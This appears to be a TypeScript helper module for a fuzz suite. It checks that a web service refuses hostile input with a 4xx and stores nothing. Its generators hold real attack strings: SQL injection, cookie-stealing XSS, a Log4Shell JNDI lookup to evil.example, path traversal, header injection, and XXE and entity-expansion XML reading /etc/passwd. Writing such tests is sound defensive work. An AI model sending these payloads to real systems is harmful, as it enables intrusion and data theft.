import { mkdirSync, writeFileSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import type { Admin } from 'kafkajs';
import type { Response, Test } from 'supertest';
import type { DataSource } from 'typeorm';
import { testKafka } from '../../support/helpers.js';

/**
 * How many inputs each property tries. The defaults keep `test/hostile` near 90 s on a loaded 2-core box;
 * `WZ_FUZZ_RUNS=<n>` runs every property n times (the long version), `WZ_FUZZ_SEED` replays a run.
 */
export function runs(byDefault: number): number {
  const wanted = Number(process.env.WZ_FUZZ_RUNS);
  return Number.isInteger(wanted) && wanted > 0 ? wanted : byDefault;
}

export const fuzzParams = (byDefault: number): fc.Parameters<unknown> => {
  const seed = Number(process.env.WZ_FUZZ_SEED);
  return { numRuns: runs(byDefault), ...(Number.isInteger(seed) ? { seed } : {}), endOnFailure: true };
};

/** No answer may take longer than this (WeChat drops the connection after 5 s). */
export const ANSWER_BOUND_MS = 5000;

/** Node's default `maxHeaderSize`. */
export const MAX_HEAD_BYTES = 16 * 1024;

/** Sends with a hard deadline: a hang fails the property instead of the whole file's timeout. */
export async function timed(test: Test): Promise<{ res: Response; ms: number }> {
  const started = performance.now();
  const res = await test.timeout({ response: ANSWER_BOUND_MS, deadline: ANSWER_BOUND_MS * 2 }).ok(() => true);
  return { res, ms: performance.now() - started };
}

/** The reason a refusal gives: the JSON error's code/message, the channel error, or the Open311 error list. */
export function reasonOf(res: Response): string | undefined {
  const body = res.body as Record<string, unknown> | unknown[] | undefined;
  if (Array.isArray(body)) {
    const first = body[0] as { code?: unknown; description?: unknown } | undefined;
    return typeof first?.description === 'string' && first.description ? `${String(first.code)} ${first.description}` : undefined;
  }
  if (body && typeof body === 'object') {
    const b = body as { code?: unknown; error?: unknown; message?: unknown };
    const code = typeof b.code === 'string' ? b.code : typeof b.error === 'string' ? b.error : undefined;
    if (code && typeof b.message === 'string' && b.message) return `${code}: ${b.message}`;
    if (typeof b.message === 'string' && b.message) return b.message;
  }
  const xml = /<description>([^<]+)<\/description>/.exec(res.text ?? '');
  return xml ? xml[1] : undefined;
}

/** The oracle of every hostile input: a 4xx with a reason, in time. Returns the reason for tallying. */
export function expectRefused(sent: { res: Response; ms: number }, allowed: number[] | 'any4xx' = 'any4xx'): string {
  const { res, ms } = sent;
  const req = (res as unknown as { req?: { method?: string; path?: string; getHeaders?: () => Record<string, unknown> } }).req;
  const headBytes = (req?.path?.length ?? 0) + Object.values(req?.getHeaders?.() ?? {}).reduce<number>((n, v) => n + String(v).length, 0);
  const where = `${req?.method} ${req?.path?.slice(0, 120)} → ${res.status} ${String(res.text).slice(0, 300)}`;
  if (res.status < 400 || res.status > 499) throw new Error(`expected a 4xx, got: ${where}`);
  // Node's HTTP parser refuses a request head over 16 KB with a bare 431 before any application code runs;
  // the status line is the only reason it gives. Allowed only for heads that really are that long.
  if (res.status === 431 && headBytes > MAX_HEAD_BYTES / 2) return 'request head too large (HTTP parser)';
  if (allowed !== 'any4xx' && !allowed.includes(res.status)) throw new Error(`expected one of ${allowed.join('/')}, got: ${where}`);
  const reason = reasonOf(res);
  if (!reason) throw new Error(`a refusal without a reason: ${where}`);
  if (ms > ANSWER_BOUND_MS) throw new Error(`answered after ${Math.round(ms)} ms: ${where}`);
  return reason;
}

/** Row counts of every table of the given schemas plus the end offsets of every topic: "was anything stored?" */
export class StoreProbe {
  private admin?: Admin;

  constructor(
    private readonly db: DataSource,
    private readonly schemas: string[],
    /** Tables a background job may change on its own (e.g. the consumers' bookkeeping), never written by a request. */
    private readonly ignore: string[] = [],
    /** Folders whose files count too (media store, upload temp folder). */
    private readonly dirs: string[] = [],
  ) {}

  async snapshot(): Promise<Record<string, number>> {
    if (!this.admin) {
      this.admin = testKafka('hostile-probe').admin();
      await this.admin.connect();
    }
    const out: Record<string, number> = {};
    const tables: { schema: string; name: string }[] = await this.db.query(
      `SELECT table_schema AS schema, table_name AS name FROM information_schema.tables
        WHERE table_schema = ANY($1) AND table_type = 'BASE TABLE' ORDER BY 1, 2`,
      [this.schemas],
    );
    const counted = tables.map((t) => `${t.schema}.${t.name}`).filter((key) => !this.ignore.includes(key) && !key.endsWith('.migrations'));
    if (counted.length > 0) {
      const [row] = await this.db.query(`SELECT ${counted.map((key, i) => `(SELECT count(*) FROM ${key.split('.').map((p) => `"${p}"`).join('.')})::int AS c${i}`).join(', ')}`);
      counted.forEach((key, i) => (out[key] = row[`c${i}`]));
    }
    for (const dir of this.dirs) {
      const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
      out[`files:${dir}`] = entries.filter((e) => e.isFile()).length;
    }
    // The platform's topics and their .dlq twins; not Kafka's own, nor the throw-away `<prefix>.<ulid>` of other tests.
    const topics = (await this.admin.listTopics()).filter((name) => !name.startsWith('__') && !/\.[0-9a-hjkmnp-tv-z]{26}(\.dlq)?$/.test(name));
    const ends = await Promise.all(topics.map(async (topic) => [topic, await this.admin!.fetchTopicOffsets(topic)] as const));
    for (const [topic, offsets] of ends.sort(([a], [b]) => a.localeCompare(b))) {
      out[`topic:${topic}`] = offsets.reduce((sum, p) => sum + Number(p.high), 0);
    }
    return out;
  }

  /** Waits until nothing changes for 2 s (consumers catching up with earlier files' events), at most 60 s. */
  async quiesce(): Promise<void> {
    let last = JSON.stringify(await this.snapshot());
    for (let stable = 0, i = 0; stable < 2 && i < 60; i++) {
      await new Promise((resolve) => setTimeout(resolve, 1000));
      const now = JSON.stringify(await this.snapshot());
      stable = now === last ? stable + 1 : 0;
      last = now;
    }
  }

  /** What changed between two snapshots (only keys whose counts differ). */
  static diff(before: Record<string, number>, after: Record<string, number>): Record<string, [number, number]> {
    const changed: Record<string, [number, number]> = {};
    for (const key of new Set([...Object.keys(before), ...Object.keys(after)])) {
      if ((before[key] ?? 0) !== (after[key] ?? 0)) changed[key] = [before[key] ?? 0, after[key] ?? 0];
    }
    return changed;
  }

  async close(): Promise<void> {
    await this.admin?.disconnect();
  }
}

/** Counts the inputs tried per endpoint and category, prints them and writes them to test/hostile/results/. */
export class Tally {
  private readonly rows = new Map<string, { endpoint: string; category: string; inputs: number; statuses: Record<string, number> }>();
  private readonly started = Date.now();

  constructor(private readonly file: string) {}

  record(endpoint: string, category: string, status: number): void {
    const key = `${endpoint}\u0000${category}`;
    const row = this.rows.get(key) ?? { endpoint, category, inputs: 0, statuses: {} };
    row.inputs += 1;
    row.statuses[status] = (row.statuses[status] ?? 0) + 1;
    this.rows.set(key, row);
  }

  total(): number {
    return [...this.rows.values()].reduce((sum, r) => sum + r.inputs, 0);
  }

  report(): void {
    const rows = [...this.rows.values()];
    const byEndpoint: Record<string, number> = {};
    for (const r of rows) byEndpoint[r.endpoint] = (byEndpoint[r.endpoint] ?? 0) + r.inputs;
    const summary = {
      file: this.file,
      at: new Date().toISOString(),
      seconds: Math.round((Date.now() - this.started) / 100) / 10,
      runsPerProperty: process.env.WZ_FUZZ_RUNS ?? 'default',
      total: this.total(),
      byEndpoint,
      rows,
    };
    const lines = rows.map((r) => `  ${r.endpoint.padEnd(44)} ${r.category.padEnd(34)} ${String(r.inputs).padStart(6)}  ${JSON.stringify(r.statuses)}`);
    // The summary is the point of these files: printed even when jest is quiet.
    process.stdout.write(`\nhostile input — ${this.file}: ${summary.total} inputs in ${summary.seconds} s\n${lines.join('\n')}\n`);
    const dir = join(process.cwd(), 'test', 'hostile', 'results');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, `${this.file}.json`), `${JSON.stringify(summary, null, 2)}\n`);
  }
}

// ---------------------------------------------------------------- generators

/** Strings that have broken parsers, databases and pages before. */
export const NASTY = [
  "' OR '1'='1",
  "'; DROP TABLE inquiries; --",
  '1; SELECT pg_sleep(10); --',
  "' UNION SELECT password_hash FROM accounts --",
  '"; DELETE FROM cases WHERE ""="',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF',
  'x\uDBFFy',
  '\u202E\u2066evil\u2069',
  '\u200F\u200E\u200B\uFEFF',
  '😀👨‍👩‍👧‍👦🏳️‍🌈',
  '𠀀𪚥𰻞',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗̞',
  '\r\nX-Injected: 1\r\n',
  ']]><xml>',
  '&amp;&lt;&#0;&#xD800;',
  '\\u0000\\x00',
  'NaN',
  '-1e309',
  '9'.repeat(400),
];

/** Any string, including lone surrogates, NULs, RTL marks, emoji, SQL and markup, sometimes very long. */
export const hostileString = (maxLength = 300): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
    { weight: 2, arbitrary: fc.array(fc.constantFrom(...NASTY), { minLength: 1, maxLength: 5 }).map((a) => a.join(' ')) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength }) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.integer({ min: 1000, max: 20000 })).map(([s, n]) => s.repeat(Math.ceil(n / Math.max(1, s.length))).slice(0, n)) },
  );

/** The same, but guaranteed to be something a strict text field refuses: NUL or a lone surrogate inside. */
export const poisonedString = (): fc.Arbitrary<string> =>
  fc
    .tuple(hostileString(60), fc.constantFrom('\u0000', '\uD800', '\uDC00'), hostileString(60))
    .map(([a, p, b]) => `${a}${p}${b}`)
    // A lone half next to its other half is a valid pair, not poison.
    .filter((s) => s.includes('\u0000') || wellFormed(s) !== s);

/** Text that is not well-formed JSON. */
export const malformedJson = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom('{', '{"content":', '{"a":1,}', "{'a':1}", '[1,2', '{"a":"\u0000', 'nul', 'tru', '{"a":1}}', '{"a":NaN}', '{"a":01}', '\uFEFF{', '{"\uD800":1', '{"a":"b"', '{"a" 1}', ')]}\'\n{}'),
    fc.json().filter((j) => j.length > 1).chain((j) => fc.integer({ min: 1, max: j.length - 1 }).map((cut) => j.slice(0, cut))).filter(notJson),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 200 }).filter(notJson),
  );

export function notJson(text: string): boolean {
  try {
    JSON.parse(text);
    return false;
  } catch {
    return true;
  }
}

/** Deeply nested JSON (a parser's or validator's recursion). */
export const deepJson = (): fc.Arbitrary<string> =>
  fc.integer({ min: 1000, max: 20000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`);

/** DOCTYPE, entity and other XML the strict parsers must refuse. */
export const xmlBombs = (root = 'xml'): fc.Arbitrary<string> =>
  fc.constantFrom(
    `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><${root}><Content>&lol4;</Content></${root}>`,
    `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><${root}><Content>&xxe;</Content></${root}>`,
    `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd"> %p;]><${root}/>`,
    `<!DOCTYPE ${root} SYSTEM "http://127.0.0.1:1/x.dtd"><${root}></${root}>`,
    `<${root}><Content>&undefined;</Content></${root}>`,
    `<?xml-stylesheet href="http://127.0.0.1:1/x.xsl"?><${root}></${root}>`,
    `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></${root}>`,
    `<${root}>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</${root}>`,
  );

/** Structurally broken XML: unbalanced, truncated, attributes, PIs, bad characters. */
export const malformedXml = (valid: string): fc.Arbitrary<string> =>
  fc.oneof(
    fc.integer({ min: 1, max: Math.max(1, valid.length - 2) }).map((cut) => valid.slice(0, cut)),
    fc.constant(valid.replace('</xml>', '')),
    fc.constant(valid.replace('<xml>', '<xml><')),
    fc.constant(valid.replace('<xml>', '<xml id="1">')),
    fc.constant(valid.replace(/<\/(\w+)>/, '</$1x>')),
    fc.constant(valid.replace(']]>', '')),
    fc.constant(valid + '<xml></xml>'),
    fc.constant(valid.replace('<xml>', '<xml>\u0000')),
    fc.constant(valid.replace('<xml>', '<xml><?php echo 1 ?>')),
    fc.constant(valid.replace('<xml>', '<xml>&#1114112;')),
    fc.constant(valid.replace('<xml>', '<xml>&#xD800;')),
    fc.constant(valid.replace('<xml>', '<xml>&#0;')),
    fc.constant(`{"xml":"${valid.length}"}`),
    fc.constant(''),
  );

/** A body far over any push limit (the channel limit is 64 KB). */
export const oversize = (minBytes: number): fc.Arbitrary<Buffer> =>
  fc.tuple(fc.integer({ min: minBytes + 1, max: minBytes * 3 }), fc.constantFrom('A', '<', '{', '中')).map(([n, ch]) => Buffer.alloc(n, ch));

// ---------------------------------------------------------------- HTTP

/** Lone surrogates cannot be percent-encoded; a client's encoder turns them into U+FFFD, so do we. */
export const wellFormed = (s: string): string =>
  s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

/** A query string; values may carry anything (percent-encoded), `raw` pieces go in as they are. */
export function queryString(query: Record<string, string | undefined>, raw = ''): string {
  const parts = Object.entries(query)
    .filter(([, v]) => v !== undefined)
    .map(([k, v]) => `${encodeURIComponent(wellFormed(k))}=${encodeURIComponent(wellFormed(v!))}`);
  if (raw) parts.push(raw);
  return parts.length ? `?${parts.join('&')}` : '';
}

/** Percent sequences that are not UTF-8, or not percent sequences at all. */
export const rawQueryJunk = fc.constantFrom('%FF%FE', '%E0%A4%A', '%ED%A0%80', '%C0%AF', '%', '%%', '%zz', 'a[b][c][d][e][f][g]=1', 'a[]=1&a[]=2', '__proto__[x]=1', 'constructor[prototype][x]=1');

/** Listens once on a loopback port, so each request does not start its own server. */
export async function listen(app: { getHttpServer(): import('node:http').Server }): Promise<string> {
  const server = app.getHttpServer();
  if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address() as import('node:net').AddressInfo;
  return `http://127.0.0.1:${address.port}`;
}

// ---------------------------------------------------------------- the property every hostile input must hold

export interface Refusal<T> {
  endpoint: string;
  category: string;
  arbitrary: fc.Arbitrary<T>;
  send: (input: T) => Test;
  /** The statuses the protocol or API gives this kind of input; any 4xx when not narrower. */
  statuses?: number[] | 'any4xx';
  numRuns: number;
}

/**
 * Every generated input is answered with a 4xx and a reason within the bound, and afterwards no table of the
 * app's schemas has a row more or less and no topic a message more than before.
 */
export async function assertRefused<T>(tally: Tally, probe: StoreProbe, c: Refusal<T>): Promise<void> {
  const before = await probe.snapshot();
  await fc.assert(
    fc.asyncProperty(c.arbitrary, async (input) => {
      const sent = await timed(c.send(input));
      tally.record(c.endpoint, c.category, sent.res.status);
      expectRefused(sent, c.statuses);
    }),
    fuzzParams(c.numRuns),
  );
  await settle();
  expect(StoreProbe.diff(before, await probe.snapshot())).toEqual({});
}

/** Long enough for an outbox relay (polling every 100 ms in tests) to have published anything committed. */
export const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 600));
